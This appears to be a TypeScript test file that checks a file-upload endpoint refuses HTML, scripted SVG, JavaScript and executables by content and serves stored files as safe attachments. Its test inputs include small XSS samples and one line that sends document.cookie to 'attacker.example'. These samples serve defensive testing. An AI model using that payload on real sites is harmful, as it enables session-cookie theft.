/**
 * POST /api/v1/files accepts documents and images only, by content (security issue 13, item 9): it
 * used to store text/html, image/svg+xml, JavaScript and executables and serve them back with that type.
 */
import { files } from '@atmis/db';
import type { FileView } from '@atmis/domain';
import { Document, Packer, Paragraph } from 'docx';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databaseFingerprint } from '../../testing/database-fingerprint.ts';
import { createTestApp, loginAs, type Agent, type TestApp } from '../../testing/test-app.ts';

let t: TestApp;
let health: Agent;

beforeAll(async () => {
  t = await createTestApp();
  health = await loginAs(t.app, 'so.yte');
});
afterAll(() => t.close());

const upload = (fileName: string, mime: string, content: Buffer) =>
  health.post('/api/v1/files', { fileName, mime, contentBase64: content.toString('base64') });

const ALLOWED = 'PDF, JPG, PNG, DOCX, XLSX hoặc TXT';
const EXE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.from([0x90, 0x00, 0x03, 0x00]),
  Buffer.from('This program cannot be run in DOS mode.'),
]);

describe('uploads refused by content', () => {
  it.each<[string, string, string, Buffer]>([
    ['an HTML page', 'trang.html', 'text/html', Buffer.from('<!doctype html><script>fetch("/api/v1/me")</script>')],
    [
      'an SVG with a script',
      'anh.svg',
      'image/svg+xml',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    ['a script', 'tien-ich.js', 'text/javascript', Buffer.from('document.cookie; fetch("https://attacker.example/" + document.cookie);')],
    ['an executable', 'cai-dat.exe', 'application/x-msdownload', EXE],
    ['an executable claiming to be a PDF', 'bao-cao.pdf', 'application/pdf', EXE],
    ['an HTML page named .txt', 'ghi-chu.txt', 'text/plain', Buffer.from('  <html><body onload="alert(1)"></body></html>')],
    ['an SVG named .png', 'anh.png', 'image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ])('%s → 415 naming the allowed types, nothing stored', async (_what, fileName, mime, content) => {
    const before = await databaseFingerprint(t.database.db);
    const response = await upload(fileName, mime, content);
    expect(response.statusCode, response.body.slice(0, 300)).toBe(415);
    expect(response.headers['content-type']).toContain('application/problem+json');
    expect(response.json<{ code: string; title: string }>()).toMatchObject({
      code: 'file.unsupported_type',
      title: `Loại tệp không được chấp nhận: chỉ nhận ${ALLOWED} (kiểm tra theo nội dung tệp, không theo tên). Chưa có gì được lưu.`,
    });
    expect(await databaseFingerprint(t.database.db)).toEqual(before);
  });

  it('a PNG named .pdf → 400, the extension must match the content; nothing stored', async () => {
    const before = await databaseFingerprint(t.database.db);
    const response = await upload('bao-cao.pdf', 'application/pdf', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]));
    expect(response.statusCode).toBe(400);
    expect(response.json<{ code: string; title: string }>()).toMatchObject({
      code: 'file.invalid',
      title: 'Tệp đính kèm không hợp lệ: Phần mở rộng của tên tệp không khớp với nội dung (nội dung là PNG).',
    });
    expect(await databaseFingerprint(t.database.db)).toEqual(before);
  });
});

describe('uploads accepted by content', () => {
  async function documents(): Promise<[string, Buffer, string][]> {
    const docx = Buffer.from(await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Báo cáo kết quả')] }] })));
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Số liệu').addRow(['Tỉnh', 'Số nạn nhân']);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    return [
      ['Báo cáo.pdf', Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), 'application/pdf'],
      ['Báo cáo.docx', docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['Số liệu.xlsx', xlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ['Ảnh hiện trường.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'image/png'],
      ['Ảnh.JPG', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]), 'image/jpeg'],
      ['Ghi chú.txt', Buffer.from('Báo cáo tiến độ: đã khám cho 12 nạn nhân.\n'), 'text/plain'],
    ];
  }

  it('PDF, DOCX, XLSX, PNG, JPEG and plain text are stored with the detected type (not the claimed one) and downloaded as attachments', async () => {
    for (const [fileName, content, mediaType] of await documents()) {
      // The client claims HTML: the stored and served type is what the content is.
      const response = await upload(fileName, 'text/html', content);
      expect(response.statusCode, `${fileName}: ${response.body.slice(0, 300)}`).toBe(201);
      const file = response.json<FileView>();
      expect(file.mime, fileName).toBe(mediaType);
      const download = await health.get(`/api/v1/files/${file.id}`);
      expect(download.statusCode).toBe(200);
      expect(download.headers['content-disposition'], fileName).toMatch(/^attachment; filename="/);
      expect(download.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent(fileName)}`);
      expect(download.headers['x-content-type-options']).toBe('nosniff');
      expect(download.headers['content-type'], fileName).toBe(mediaType === 'text/plain' ? 'text/plain; charset=utf-8' : mediaType);
      expect(download.rawPayload.equals(content), fileName).toBe(true);
    }
  });

  it('a file stored before the check with a dangerous type is served as opaque bytes, as an attachment', async () => {
    const own = (await upload('Báo cáo.pdf', 'application/pdf', Buffer.from('%PDF-1.4 x'))).json<FileView>();
    const [legacy] = await t.database.db
      .insert(files)
      .values({
        fileName: 'cu.html',
        mime: 'text/html',
        size: 20,
        sha256: '0'.repeat(64),
        content: Buffer.from('<script>alert(1)</script>'),
        uploadedBy: own.uploadedBy,
      })
      .returning({ id: files.id });
    const download = await health.get(`/api/v1/files/${legacy!.id}`);
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe('application/octet-stream');
    expect(download.headers['content-disposition']).toMatch(/^attachment; /);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
  });
});
